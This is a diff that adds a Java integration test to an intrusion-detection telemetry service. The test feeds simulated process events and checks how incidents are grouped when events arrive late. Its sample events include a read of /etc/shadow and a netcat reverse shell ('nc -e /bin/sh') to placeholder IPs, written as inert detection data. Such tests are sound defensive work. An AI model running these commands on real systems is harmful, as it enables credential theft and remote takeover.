@@ -172,4 +172,51 @@ class IntentOfFleetTest {
                     .contains("\"levels\":-1", "maintenance is declared: moving house");
         }
     }
+
+    private void process(TestServer server, String token, String id, Instant at, String line)
+            throws IOException, InterruptedException {
+        String event = "{\"@timestamp\":\"" + at + "\",\"event\":{\"id\":\"" + id
+                + "\",\"action\":\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"web-1\"},"
+                + "\"process\":{\"executable\":\"/usr/bin/" + line.split(" ")[0] + "\",\"command_line\":\"" + line
+                + "\"}}";
+        assertThat(server.call(
+                                "POST",
+                                "/api/v1/telemetry",
+                                "{\"stream\":\"" + UUID.randomUUID()
+                                        + "\",\"sensor\":\"proc\",\"first\":1,\"count\":1,\"lost\":[]}\n" + event
+                                        + "\n",
+                                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"))
+                        .status())
+                .isEqualTo(200);
+    }
+
+    @Test
+    void whatComesWithinTheLatenessJoinsAndWhatComesLaterStandsForItself(Databases databases)
+            throws IOException, InterruptedException {
+        try (TestServer server = server(databases)) {
+            String token = server.token("observer");
+            Instant then = now.get();
+            process(server, token, "p1", then, "cat /etc/shadow");
+            now.set(then.plusSeconds(23 * 3_600));
+            process(server, token, "p2", then.plusSeconds(60), "nc -e /bin/sh 192.0.2.7 4444");
+            assertThat(server.get("/api/v1/incidents").json().path("items").size())
+                    .isEqualTo(1);
+            now.set(then.plusSeconds(25 * 3_600));
+            process(server, token, "p3", then.plusSeconds(90), "cat /etc/shadow");
+            process(server, token, "p4", then.plusSeconds(120), "nc -e /bin/sh 192.0.2.8 4444");
+            JsonNode incidents = server.get("/api/v1/incidents").json().path("items");
+            assertThat(incidents.size()).as(incidents.toString()).isEqualTo(2);
+            for (JsonNode incident : incidents) {
+                String details = server.get(
+                                "/api/v1/incidents/" + incident.path("id").asString())
+                        .json()
+                        .path("details")
+                        .toString();
+                boolean late = details.contains("\"p3\"");
+                assertThat(details.contains("\"p4\"")).isEqualTo(late);
+                assertThat(details.contains("\"p1\"")).isEqualTo(!late);
+                assertThat(details.contains("came too late")).isEqualTo(late);
+            }
+        }
+    }
 }
